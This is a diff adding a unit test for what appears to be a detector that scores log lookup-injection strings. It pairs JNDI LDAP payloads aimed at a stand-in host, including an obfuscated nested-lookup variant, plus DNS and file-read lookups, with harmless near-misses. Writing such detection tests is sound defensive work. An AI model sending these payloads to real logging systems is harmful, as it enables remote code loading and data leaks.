@@ -36,6 +36,18 @@ TEST(Lookup, NestingIsBounded) {
   EXPECT_LT(points(deep), kThreshold);
   EXPECT_GE(points("${" + std::string(2'000, 'a') + "} ${jndi:ldap://host.example}"), 0U);
 }
+TEST(Lookup, AnAttackAndItsNearMiss) {
+  EXPECT_GE(points("${jndi:ldap://host.example/a}"), kThreshold);
+  EXPECT_LT(points("${jndi.ldap.host.example}"), kThreshold);
+  EXPECT_GE(points("${${date:'j'}ndi:ldap://host.example/a}"), kThreshold);
+  EXPECT_LT(points("${date:'j'} ndi:ldap://host.example/a"), kThreshold);
+  EXPECT_GE(points("${dns:address|host.example}"), kThreshold);
+  EXPECT_LT(points("${dns:-none}"), kThreshold);
+  EXPECT_GE(points("${file:UTF-8:/srv/a}"), kThreshold);
+  EXPECT_LT(points("${file}:UTF-8:/srv/a"), kThreshold);
+  EXPECT_GE(points("$${jndi:ldap://host.example/a}"), kThreshold);
+  EXPECT_LT(points("$jndi:ldap://host.example/a"), kThreshold);
+}
 
 }  // namespace
 }  // namespace onesec::inspect
